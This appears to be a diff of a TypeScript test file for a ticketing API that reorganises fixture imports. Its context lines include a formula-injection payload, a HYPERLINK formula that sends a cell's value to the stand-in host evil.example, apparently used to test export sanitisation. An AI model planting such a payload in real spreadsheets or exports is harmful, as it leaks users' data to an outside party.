@@ -15,7 +15,8 @@ import { Ticket as TicketEntity } from '../src/tickets/ticket.entity';
 import { insertAttendeeRow } from './helpers/attendee-fixtures';
 import { CART_PATH, checkout, ORDERS_PATH, PURCHASER } from './helpers/buyers';
 import { createTestApp, createUser, TestApp, TestUser } from './helpers/test-app';
-import { insertEvent, insertTicket, TestClock } from './helpers/ticketing-fixtures';
+import { insertEvent } from './helpers/fixtures';
+import { insertTicket, TestClock } from './helpers/ticketing-fixtures';
 
 const BASE = '/cal/tickets/v1';
 const INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
